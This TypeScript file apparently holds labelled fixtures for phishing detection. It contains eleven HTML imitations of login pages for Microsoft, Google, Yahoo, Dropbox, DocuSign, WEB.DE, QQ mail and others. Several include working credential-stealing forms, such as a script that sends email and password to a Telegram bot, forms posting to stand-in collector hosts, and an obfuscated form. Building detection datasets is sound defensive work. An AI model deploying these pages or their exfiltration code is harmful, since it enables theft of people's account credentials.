import { malicious, type ImitationPage } from './imitation-page.ts';

/** Mailboxes, documents and work accounts. */
export const mailImitations: readonly ImitationPage[] = [
  malicious(
    'onedrive-doc.pages-cdn.example/view/',
    'The first step of a work account: the address alone, the rest comes from a script',
    'PHISHING',
    'Microsoft',
    `<!DOCTYPE html><html dir="ltr" lang="en"><head><title>Sign in to your account</title><link rel="icon" href="https://aadcdn.msauth.net/shared/1.0/content/images/favicon_a_eupayfgghqiai7k9sol6lg2.ico"></head>
<body><div id="lightbox"><div><img class="logo" role="img" src="data:image/svg+xml;base64,PHN2Zy8+" alt="Microsoft"></div><div role="heading" aria-level="1">Sign in</div>
<div class="row"><input type="email" name="loginfmt" placeholder="Email, phone, or Skype" aria-label="Enter your email, phone, or Skype."></div><div>No account? <a href="#">Create one!</a></div><div><a href="#">Can’t access your account?</a></div><input type="submit" id="idSIButton9" value="Next"></div>
<div id="footer"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><span>©2025 Microsoft</span></div></body></html>`,
  ),
  malicious(
    'sharepoint-docs.example/s/invoice',
    'A shared document behind a mail password, sent to a chat',
    'PHISHING',
    'Microsoft',
    `<!DOCTYPE html><html><head><title>SharePoint Online</title></head><body><div class="hd"><img src="sp.png" alt="SharePoint"></div><h3>Invoice_8841.pdf</h3><p>This file is protected. Sign in with your email to view the document.</p>
<form id="x"><input type="email" id="em" value="" placeholder="someone@company.com"><input type="password" id="pw" placeholder="Password"><button>View Document</button></form>
<script>document.getElementById('x').addEventListener('submit',function(e){e.preventDefault();fetch('https://api.telegram.org/bot7712345678:AAEexampleexampleexampleexample/sendMessage?chat_id=1&text='+em.value+':'+pw.value)});</script></body></html>`,
  ),
  malicious(
    'owa-upgrade.example/owa/',
    'A mail server of a company, on a host that is not the company, posting to PHP',
    'PHISHING',
    'Microsoft',
    `<html><head><title>Outlook Web App</title></head><body class="signInBg"><form action="post.php" method="POST"><div class="logonContainer"><img src="olk_logo_white.png" alt="Outlook"><div class="signInInputLabel">Domain\\user name:</div><input name="username" id="username"><div class="signInInputLabel">Password:</div><input name="password" id="password" type="password"><div class="signinbutton"><input type="submit" value="sign in"></div></div></form></body></html>`,
  ),
  malicious(
    'webmail-quota.example/verify.html',
    'A mailbox without a brand that is about to be full, by a form service',
    'PHISHING',
    null,
    `<!doctype html><html><head><title>Webmail | Storage</title></head><body><h2>Mailbox storage quota</h2><p>Your mailbox is almost full (98%). Pending messages: 14. Verify your mailbox to keep receiving mail.</p><div class="bar"><div style="width:98%"></div></div><form action="https://formspree.io/f/xyzabcde" method="POST"><label>Email<input type="email" name="email"></label><label>Password<input type="password" name="password"></label><button>Keep same password</button></form></body></html>`,
  ),
  malicious(
    'doc-share.example/adobe/index.html',
    'A reader of documents that takes the password of any mail service',
    'PHISHING',
    'Adobe',
    `<!DOCTYPE html><html><head><title>Adobe Document Cloud</title></head><body><img src="adobe-acrobat.png" alt="Adobe Acrobat"><h1>Adobe PDF Online</h1><p>To access the document, select your email provider below.</p><div class="p"><a href="#" data-p="o365">Office 365</a><a href="#">Outlook</a><a href="#">Gmail</a><a href="#">Yahoo</a><a href="#">AOL</a><a href="#">Other Mail</a></div><form action="mailto:results@collector.example" method="post"><input name="email" placeholder="Email"><input name="pass" type="password" placeholder="Password"><button>Download</button></form></body></html>`,
  ),
  malicious(
    'dropfile-portal.example/db/',
    'A cloud folder whose form stands in unreadable code',
    'PHISHING',
    'Dropbox',
    `<!DOCTYPE html><html><head><title>Dropbox - Login</title></head><body><img src="d.svg" alt="Dropbox"><h1>Sign in to Dropbox</h1><div id="root"></div><script>document.write(decodeURIComponent('%3Cform%20action%3D%22next.php%22%20method%3D%22post%22%3E%3Cinput%20name%3D%22e%22%20type%3D%22email%22%20placeholder%3D%22Email%22%3E%3Cinput%20name%3D%22p%22%20type%3D%22password%22%20placeholder%3D%22Password%22%3E%3Cbutton%3ESign%20in%3C%2Fbutton%3E%3C%2Fform%3E'));</script></body></html>`,
  ),
  malicious(
    'docusign-review.example/envelope',
    'A signature to be given, from a bare name',
    'PHISHING',
    'DocuSign',
    `<!DOCTYPE html><html><head><meta property="og:site_name" content="DocuSign"><title>Review and sign document</title></head><body><div class="brand"><img src="images/docusign-logo.png" alt="DocuSign"></div><p>You have received a document to review. Log in with your email password to continue.</p><form action="https://1.2.3.4/collect" method="post"><input type="email" name="u" placeholder="Email address"><input type="password" name="p" placeholder="Email password"><button>REVIEW DOCUMENT</button></form></body></html>`,
  ),
  malicious(
    'ymail-service.example/account/challenge',
    'An old mail service',
    'PHISHING',
    'Yahoo',
    `<!DOCTYPE html><html><head><title>Yahoo - login</title></head><body><div class="login-box"><img src="yahoo_en-US_f_p_bestfit_2x.png" alt="Yahoo"><strong>Sign in to Yahoo Mail</strong><span>using your Yahoo account</span><form method="post" action="#"><input name="username" placeholder="Username, email, or mobile"><input type="password" name="passwd" placeholder="Password"><input type="submit" value="Next"></form><a href="#">Forgot username?</a><a href="#">Create an account</a></div></body></html>`,
  ),
  malicious(
    'google-drive-share.example/ServiceLogin',
    'A search company, without a form element',
    'PHISHING',
    'Google',
    `<!DOCTYPE html><html lang="en"><head><title>Gmail</title></head><body><div class="xkfVF"><div id="logo" title="Google"><svg viewBox="0 0 75 24" aria-hidden="true"></svg></div><h1>Sign in</h1><div>Use your Google Account</div><div><input type="email" aria-label="Email or phone" name="identifier"><input type="password" aria-label="Enter your password" name="Passwd"></div><button><span>Next</span></button><a href="https://accounts.google.com/signup">Create account</a><a href="https://support.google.com/accounts">Help</a><a href="https://policies.google.com/privacy">Privacy</a><a href="https://policies.google.com/terms">Terms</a></div></body></html>`,
  ),
  malicious(
    'post-anmeldung.example/webde',
    'A German mail service',
    'PHISHING',
    'WEB.DE',
    `<!DOCTYPE html><html lang="de"><head><title>WEB.DE Login</title></head><body><img src="webde-logo.svg" alt="WEB.DE"><p>Ihr Postfach wird in 24 Stunden gesperrt. Bestätigen Sie Ihre Daten.</p><form action="send.php" method="post"><input name="user" placeholder="E-Mail-Adresse"><input type="password" name="pwd" placeholder="Passwort"><button>Login</button></form></body></html>`,
  ),
  malicious(
    'mail-anquan.example/qq',
    'A Chinese mail service',
    'PHISHING',
    'QQ',
    `<!DOCTYPE html><html lang="zh"><head><meta charset="utf-8"><title>登录QQ邮箱</title></head><body><img src="qqmail_logo.png" alt="QQ邮箱"><p>您的邮箱容量已满，密码即将过期，请立即验证您的身份。</p><form action="login.asp" method="post"><input name="u" placeholder="QQ号码/手机/邮箱"><input name="p" type="password" placeholder="密码"><input type="submit" value="登录"></form></body></html>`,
  ),
];
